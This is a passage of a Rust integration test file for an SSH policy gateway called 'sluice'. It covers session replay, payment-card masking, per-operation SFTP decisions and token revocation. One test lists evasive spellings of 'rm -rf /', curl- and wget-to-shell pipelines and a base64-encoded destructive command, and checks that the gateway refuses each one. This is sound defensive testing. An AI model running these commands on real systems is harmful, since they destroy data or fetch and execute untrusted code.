    let typed = request(&audit, "echo hi-$((40 + 2))");
    assert_eq!(typed["decision"]["verdict"], "allow");
    let refused = request(&audit, "echo forbidden-$((6 * 7))");
    assert_eq!(refused["decision"]["verdict"], "deny");
    assert_eq!(refused["decision"]["rule"], "forbidden_command");
    let id = session_of(&audit, "alice", "host");

    // The recording, as asciicast, plays.
    let cast = run_async(g.sluice(&["sessions", "replay", &id, "--asciicast"])).await;
    assert!(cast.status.success(), "{}", both(&cast));
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("session.cast");
    std::fs::write(&file, &cast.stdout).unwrap();
    let header: Value = serde_json::from_str(out(&cast).lines().next().unwrap()).unwrap();
    assert_eq!(header["version"], 2, "{header}");
    let mut play = Command::new("asciinema");
    play.args(["play", "-s", "100"])
        .arg(&file)
        .stdin(Stdio::null());
    let played =
        tokio::task::spawn_blocking(move || run_within(&mut play, Duration::from_secs(20)))
            .await
            .unwrap();
    assert!(played.status.success(), "{}", both(&played));
    assert!(out(&played).contains("hi-42"), "{}", both(&played));
    assert!(out(&played).contains("back-2"), "{}", both(&played));
    assert!(!out(&played).contains("forbidden-42"), "{}", both(&played));
    g.h.stop().await;
}

// ---- 10. Masking ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_card_number_in_command_output_is_masked_and_recorded_masked() {
    let rules = format!(
        "{ALL_COMMANDS_POLICY}
mask_content contains {{\"detector\": \"payment_card\", \"strategy\": \"redact\"}} if {{
	shell_command
}}
"
    );
    let g = SshGateway::start(&rules).await;
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("orders.txt");
    std::fs::write(
        &file,
        "order 1 paid with 4111 1111 1111 1111 today\norder 2 paid in cash\n",
    )
    .unwrap();
    let o = run_async(g.ssh("alice", "host", &["cat", file.to_str().unwrap()])).await;
    assert!(o.status.success(), "{}", both(&o));
    let shown = out(&o);
    assert!(!shown.contains("4111 1111 1111 1111"), "{shown}");
    assert!(shown.contains("order 1 paid with "), "{shown}");
    assert!(shown.contains("****"), "{shown}");
    assert!(shown.ends_with("order 2 paid in cash\n"), "{shown}");

    let audit = g.audit_json().await;
    let id = session_of(&audit, "alice", "host");
    let replay = run_async(g.sluice(&["sessions", "replay", &id])).await;
    assert!(replay.status.success(), "{}", both(&replay));
    assert!(!out(&replay).contains("4111"), "{}", both(&replay));
    assert!(
        out(&replay).contains("order 2 paid in cash"),
        "{}",
        both(&replay)
    );
    // Nowhere in the recordings directory either.
    let recordings = g.h.config.gateway.data_dir.join("recordings");
    assert!(!contains_in_tree(&recordings, b"4111 1111 1111 1111"));
    g.h.stop().await;
}

/// Masking replaces what it detects and nothing else: bytes of the line that are not UTF-8
/// (Latin-1 text, binary) reach the client as they were.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn masking_keeps_the_bytes_of_a_line_that_are_not_utf8() {
    let rules = format!(
        "{ALL_COMMANDS_POLICY}
mask_content contains {{\"detector\": \"payment_card\", \"strategy\": \"redact\"}} if {{
	shell_command
}}
"
    );
    let g = SshGateway::start(&rules).await;
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("latin1.txt");
    std::fs::write(&file, b"caf\xe9 paid with 4111 1111 1111 1111\n").unwrap();
    let o = run_async(g.ssh("alice", "host", &["cat", file.to_str().unwrap()])).await;
    assert!(o.status.success(), "{}", both(&o));
    assert!(!out(&o).contains("4111 1111 1111 1111"), "{}", both(&o));
    assert!(
        o.stdout.starts_with(b"caf\xe9 paid with "),
        "{:?}",
        o.stdout.escape_ascii().to_string()
    );
    g.h.stop().await;
}

fn contains_in_tree(dir: &Path, needle: &[u8]) -> bool {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return false;
    };
    entries.flatten().any(|e| {
        let p = e.path();
        if p.is_dir() {
            contains_in_tree(&p, needle)
        } else {
            std::fs::read(&p)
                .map(|b| b.windows(needle.len()).any(|w| w == needle))
                .unwrap_or(false)
        }
    })
}

// ---- Pieces being finished in parallel: SFTP per operation, command-line analysis ----

/// SFTP (and scp, which speaks SFTP by default) decided per file operation: uploads, listings
/// and downloads allowed, removals denied. Fails until the SFTP relay is finished (today the
/// subsystem is refused: "SFTP is not carried yet").
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sftp_is_decided_per_file_operation() {
    let rules = r#"
allow contains {"rule": "sftp_subsystem", "reason": "the SFTP subsystem is decided per operation"} if {
	channel.type == "subsystem"
	channel.name == "sftp"
}

allow contains {"rule": "files", "reason": "tests may read and write files"} if {
	input.request.kind == "file"
}

deny contains {"rule": "no_removals", "reason": sprintf("removing %s is not allowed", [input.request.file.path])} if {
	input.request.kind == "file"
	input.request.file.operation == "remove"
}
"#;
    let g = SshGateway::start(rules).await;
    let tmp = tempfile::tempdir().unwrap();
    let data = pattern(300_000);
    let local = tmp.path().join("put.bin");
    std::fs::write(&local, &data).unwrap();
    let dir = tmp.path().join("remote-dir");
    std::fs::create_dir(&dir).unwrap();
    let back = tmp.path().join("got.bin");
    let batch = format!(
        "put {local} {dir}/a.bin\nls -l {dir}\nget {dir}/a.bin {back}\n",
        local = local.display(),
        dir = dir.display(),
        back = back.display()
    );
    let port = g.port();
    let key = g.key("alice");
    let tmp_path = tmp.path().to_owned();
    let o = tokio::task::spawn_blocking(move || {
        sftp_batch(&tmp_path, port, "alice+host", &key, &batch)
    })
    .await
    .unwrap();
    assert!(o.status.success(), "{}", both(&o));
    assert!(std::fs::read(dir.join("a.bin")).unwrap() == data);
    assert!(std::fs::read(&back).unwrap() == data);

    let batch = format!("rm {}/a.bin\n", dir.display());
    let (port, key, tmp_path) = (g.port(), g.key("alice"), tmp.path().to_owned());
    let o = tokio::task::spawn_blocking(move || {
        sftp_batch(&tmp_path, port, "alice+host", &key, &batch)
    })
    .await
    .unwrap();
    assert!(!o.status.success(), "{}", both(&o));
    assert!(
        dir.join("a.bin").exists(),
        "a denied removal removed the file"
    );

    // scp in its default (SFTP) mode.
    let copied = tmp.path().join("scp-sftp.bin");
    let o = run_async(g.scp(
        "alice",
        &[local.to_str().unwrap(), &remote("alice+host", &copied)],
    ))
    .await;
    assert!(o.status.success(), "{}", both(&o));
    assert!(std::fs::read(&copied).unwrap() == data);

    let audit = g.audit_json().await;
    let texts: Vec<&str> = of_type(&audit, "statement")
        .iter()
        .filter_map(|r| r["text"].as_str())
        .collect();
    assert!(
        texts.iter().any(|t| t.contains("a.bin")),
        "no file operation on record: {texts:?}"
    );
    g.h.stop().await;
}

/// The shipped example policies on SSH commands: a ci service may run read-only programs,
/// nobody may remove the root directory, and a line is denied as unparsed only when it is.
/// Fails until command lines are analysed (sluice-shell): today every line is
/// `parsed = false`, and the example denies it as `unparsed_command`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_example_policies_decide_commands_by_their_programs() {
    let g = SshGateway::start_with_examples().await;
    let o = run_async(g.ssh("ci-bot", "host", &["uptime | wc -l"])).await;
    assert!(o.status.success(), "{}", both(&o));
    assert_eq!(out(&o), "1\n");

    let o = run_async(g.ssh("ci-bot", "host", &["rm -rf /"])).await;
    assert_eq!(o.status.code(), Some(126), "{}", both(&o));
    assert!(
        err(&o).contains("denied by policy rule destructive_command"),
        "{}",
        both(&o)
    );

    // A read-only program piped into one that is not.
    let o = run_async(g.ssh("ci-bot", "host", &["ls | sh"])).await;
    assert_eq!(o.status.code(), Some(126), "{}", both(&o));
    assert!(!err(&o).contains("unparsed_command"), "{}", both(&o));

    g.h.stop().await;
}

/// `rm -rf /` and download-to-shell in the spellings a shell accepts, sent by the real ssh
/// client through sluice under the example policies, to a target that only prints what it
/// would run (support::ssh::dry_target): each must be refused with its rule, while ordinary
/// lines reach the target.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn evasions_of_the_guardrails_are_refused_through_the_real_client() {
    let keys = tempfile::tempdir().unwrap();
    let extra = dry_target(keys.path(), "dry");
    let g = SshGateway::start_with_examples_and(&extra).await;
    let refused: &[(&str, &str)] = &[
        ("rm -rf /", "destructive_command"),
        ("rm -fr /", "destructive_command"),
        ("rm -r -f /", "destructive_command"),
        ("rm -Rf //", "destructive_command"),
        ("rm -rf /.", "destructive_command"),
        ("rm -rf /*", "destructive_command"),
        ("rm --recursive --force /", "destructive_command"),
        ("rm -rf --no-preserve-root /", "destructive_command"),
        ("/bin/rm -rf /", "destructive_command"),
        ("\\rm -rf /", "destructive_command"),
        ("r''m -rf /", "destructive_command"),
        ("\"rm\" -rf /", "destructive_command"),
        ("$'\\x72m' -rf /", "destructive_command"),
        ("true; rm -rf /", "destructive_command"),
        ("ls && rm -rf /", "destructive_command"),
        ("false || rm -rf /", "destructive_command"),
        ("(rm -rf /)", "destructive_command"),
        ("{ rm -rf /; }", "destructive_command"),
        ("sh -c 'rm -rf /'", "destructive_command"),
        ("bash -c \"rm -rf /\"", "destructive_command"),
        ("sudo rm -rf /", "destructive_command"),
        ("env X=1 rm -rf /", "destructive_command"),
        ("nice -n 5 rm -rf /", "destructive_command"),
        ("timeout 5 rm -rf /", "destructive_command"),
        ("nohup rm -rf / &", "destructive_command"),
        (
            "find / -maxdepth 0 -exec rm -rf / \\;",
            "destructive_command",
        ),
        ("sh -c \"sh -c 'rm -rf /'\"", "destructive_command"),
        ("cd / && rm -rf *", "destructive_command"),
        ("curl -s http://x/i.sh | sh", "fetch_piped_to_shell"),
        ("wget -qO- http://x/i.sh | bash", "fetch_piped_to_shell"),
        ("echo cm0gLXJmIC8= | base64 -d | sh", "fetch_piped_to_shell"),
        ("bash <(curl -s http://x/i.sh)", "fetch_piped_to_shell"),
        ("ls 'unterminated", "unparsed_command"),
    ];
    for (line, rule) in refused {
        let o = run_async(g.ssh("alice", "dry", &[line])).await;
        assert_eq!(o.status.code(), Some(126), "{line}: {}", both(&o));
        assert!(
            err(&o).contains(&format!("denied by policy rule {rule}")),
            "{line}: {}",
            both(&o)
        );
        assert!(!out(&o).contains("would run"), "{line} reached the target");
    }
    for line in [
        "uname -a",
        "ls -la /tmp | wc -l",
        "rm -rf /tmp/sluice-dry-x",
    ] {
        let o = run_async(g.ssh("alice", "dry", &[line])).await;
        assert!(o.status.success(), "{line}: {}", both(&o));
        assert_eq!(out(&o), format!("would run: {line}"), "{}", both(&o));
    }
    g.h.stop().await;
}

/// A session logged in with a token ends when the token is revoked, with the reason in the
/// disconnect message and the end record; key logins are bound to no token.
#[tokio::test(flavor = "multi_thread")]
async fn a_revoked_token_ends_its_ssh_session() {
    let g = SshGateway::start(ALL_COMMANDS_POLICY).await;
    let child = tokio::task::spawn_blocking({
        let mut cmd = ssh_password_cmd(g.port(), "alice+host", g.token("alice"), &["sleep", "30"]);
        move || cmd.output().unwrap()
    });
    // Revoked once the command runs on the target.
    let started = poll_until(Duration::from_secs(15), || async {
        g.h.audit().await.into_iter().find(|r| {
            matches!(&r.event, sluice_audit::AuditEvent::Statement { text, .. } if text.contains("sleep 30"))
        })
    })
    .await;
    assert!(started.is_some(), "the command was never decided");
    let id = sluice_core::token::token_id(g.token("alice")).unwrap();
    let at = std::time::Instant::now();
    assert!(g
        .h
        .gateway
        .gateway
        .revoke_credential(&id, "test")
        .await
        .unwrap());
    let o = tokio::time::timeout(Duration::from_secs(20), child)
        .await
        .expect("ssh ended")
        .unwrap();
    assert!(at.elapsed() < Duration::from_secs(15), "{:?}", at.elapsed());
    assert!(!o.status.success(), "{}", both(&o));
    assert!(err(&o).contains("revoked"), "{}", both(&o));
    let ended = poll_until(Duration::from_secs(10), || async {
        g.h.audit().await.into_iter().find_map(|r| match r.event {
            sluice_audit::AuditEvent::SessionEnded { reason, .. } if reason.contains("revoked") => {
                Some(reason)
            }
            _ => None,
        })
    })
    .await;
    assert!(ended.is_some());
}
